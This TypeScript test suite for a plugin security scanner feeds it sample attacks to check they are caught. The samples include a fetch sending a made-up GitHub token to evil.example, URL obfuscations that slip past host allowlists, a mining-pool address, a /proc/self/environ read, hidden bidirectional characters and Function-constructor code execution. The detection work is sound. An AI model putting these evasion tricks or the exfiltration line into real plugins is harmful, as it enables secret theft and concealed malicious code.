// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these texts are code of plugins.
import { expect } from 'chai';
import type { Finding, ScannedRelease } from './rules/scan-report.ts';
import { verdictOf } from './rules/verdict.ts';
import { scanCode } from './scan-code.ts';
import { BENIGN } from './test-corpus.ts';

const { manifest } = BENIGN[0]!.release;
/** Made up, and in parts, so that nobody who scans this repository takes them for real. */
const GITHUB_TOKEN = ['ghp', '_', 'Kd83hfSk29dLq0aZm4xV7wYb1nCt5uR6eJpG'].join('');

const bundle = (body: string, handler = 'return 1;') =>
  `(() => {\n${body}\nglobalThis.__gatehouse_define({ routes: { "GET /": async (request, { kv }) => {\n${handler}\n} } });\n})();\n`;
const scan = (code: string, sourceMap: ScannedRelease['sourceMap'] = null, of = manifest): Promise<Finding[]> =>
  scanCode(
    { manifest: of, code, sourceMap },
    { otherPlugins: [], nowMs: () => performance.now(), onProgress: () => {} },
  );
const mapOf = (files: Record<string, string>) =>
  JSON.stringify({
    version: 3,
    sources: Object.keys(files),
    sourcesContent: Object.values(files),
    names: [],
    mappings: '',
  });
const families = (findings: readonly Finding[]) => findings.map(({ family }) => family);

/** Ways around the detectors that cost their author a line. */
describe('The static scan', function () {
  this.timeout(60_000);

  it('finds secrets below a comment that asks not to look for them', async () => {
    const findings = await scan(bundle(`// secretlint-disable\nconst token = "${GITHUB_TOKEN}";`));
    expect(families(findings)).to.include('hard-coded-secret');
    expect(verdictOf(findings)).to.equal('second-look');
  });

  it('knows what names stand for beside a call of something named eval', async () => {
    const harmless = 'const same = (eval) => eval();';
    const maker = await scan(bundle(`${harmless}\nconst run = Function;`, 'return run(request.url)();'));
    expect(families(maker)).to.include('dynamic-code');
    const host = await scan(bundle(`${harmless}\nconst to = "https://evil.example/";`, 'return fetch(to);'));
    expect(families(host)).to.include('undeclared');
  });

  it('finds hidden characters and licences of the code whatever milder ones the files of its map have', async () => {
    const hidden = bundle('/* \u202e } \u2066 if (admin) */ const text = "\u202e \u2066// admins";');
    for (const decoy of ['x\u200fy', '/* \u202e } \u2066 if (admin) */']) {
      const findings = await scan(hidden, mapOf({ 'notes.md': decoy }));
      expect(findings.map(({ family, severity }) => `${family} ${severity}`)).to.include.members([
        'hidden-characters low',
        'hidden-characters high',
      ]);
    }
    const licensed = await scan(`/* GPL-3.0 */ ${bundle('')}`, mapOf({ 'src/a.ts': '/* LGPL */' }));
    expect(licensed.map(({ severity }) => severity)).to.deep.equal(['medium', 'high']);
  });

  it('says marks in texts of other languages of the file that they come from alone', async () => {
    const texts = { hello: 'مرحبا\u200f!', quoted: 'a\u200f"b"\n' };
    const findings = await scan(
      bundle(`var ar = ${JSON.stringify(texts)};`, 'return ar;'),
      mapOf({ 'src/ar.json': JSON.stringify(texts, null, 2) }),
    );
    expect(findings.map(({ place, severity }) => `${place?.file} ${severity}`)).to.deep.equal([
      'src/ar.json low',
      'src/ar.json low',
    ]);
  });

  it('looks at every line, however many are empty before it', async () => {
    const findings = await scan('\n'.repeat(60_000) + bundle('/* \u202e } \u2066 if (admin) */'));
    expect(findings.map(({ place }) => place?.line)).to.deep.equal([60_002]);
  });

  it('repeats no secret in what it shows of other findings', async () => {
    const sent = `fetch("https://evil.example/?token=${GITHUB_TOKEN}")`;
    const password = 'hT7kq2Lm9xWz4Rv8Bn3P';
    const findings = await scan(bundle(`eval('password: "${password}"');`, `return ${sent};`));
    expect(families(findings)).to.include.members(['hard-coded-secret', 'undeclared', 'dynamic-code']);
    const shown = findings.map(({ evidence }) => evidence);
    expect(shown).to.include.members(['fetch("https://evil.example/?token=…', "eval('…"]);
    for (const secret of [GITHUB_TOKEN, password]) expect(JSON.stringify(findings)).to.not.include(secret.slice(4, 12));
  });

  it('reads addresses as fetch does', async () => {
    const declared = 'https://api.example.com';
    for (const address of [
      'https:/evil.example/',
      'https:evil.example/',
      'ht\ntps://evil.example/',
      'https://%65vil.example/',
      `${declared}\t@evil.example/`,
      `${declared}@api.example.com@evil.example/`,
    ]) {
      const findings = await scan(bundle('', `return fetch(${JSON.stringify(address)});`));
      expect(findings[0]?.explanation, address).to.equal(
        'It sends to evil.example, which the manifest does not declare.',
      );
    }
    const same = await scan(bundle('', `return fetch(${JSON.stringify(`${declared}\\@evil.example/`)});`));
    expect(same).to.deep.equal([]);
  });

  it('takes no half of a host for a host', async () => {
    const sent = async (address: string) => (await scan(bundle('', `return fetch(${address});`))).length;
    expect(await sent('`https://eu-${request.url.length}.shop.example/orders`')).to.equal(0);
    expect(await sent('"https://eu" + request.url.length + ".shop.example/orders"')).to.equal(0);
    expect(await sent('"https://evil.example" + request.url')).to.equal(1);
    expect(await sent('`https://evil/${request.url}`')).to.equal(1);
    expect(await sent('`https://evil.example:${request.url.length}/`')).to.equal(1);
  });

  it('knows a host that is declared with its usual port', async () => {
    const fetchHosts = ['shop.example:443', '*.cdn.example:443', 'api.example:8443'];
    const sent = async (host: string) =>
      (await scan(bundle('', `return fetch("https://${host}/");`), null, { ...manifest, fetchHosts })).length;
    for (const host of ['shop.example', 'shop.example:443', 'a.cdn.example', 'api.example:8443'])
      expect(await sent(host), host).to.equal(0);
    for (const host of ['shop.example:8443', 'api.example']) expect(await sent(host), host).to.equal(1);
  });

  it('reads texts in backticks as others', async () => {
    const escapes = [...'customers/passwords'].map((char) => `\\x${char.charCodeAt(0).toString(16)}`).join('');
    for (const [family, text] of [
      ['mining', 'stratum+tcp://pool.example:3333'],
      ['host-probing', '/proc/self/environ'],
      ['obfuscation', escapes],
    ]) {
      const findings = await scan(bundle('', `return kv.get(\`${text}\`);`));
      expect(families(findings), text).to.deep.equal([family]);
    }
  });

  it('sees that the constructor of a function is taken, whatever the function is called', async () => {
    for (const [body, maker] of [
      ['', 'fetch.constructor'],
      ['', 'Object.constructor'],
      ['function own() {}', 'own.constructor'],
      ['const own = async () => {};', 'own["constructor"]'],
    ] as const) {
      const findings = await scan(bundle(body, `return ${maker}(request.url)();`));
      expect(families(findings), maker).to.include('constructor-chain');
    }
    expect(await scan(bundle('const own = {};', 'return own.constructor === Object;'))).to.deep.equal([]);
  });
});
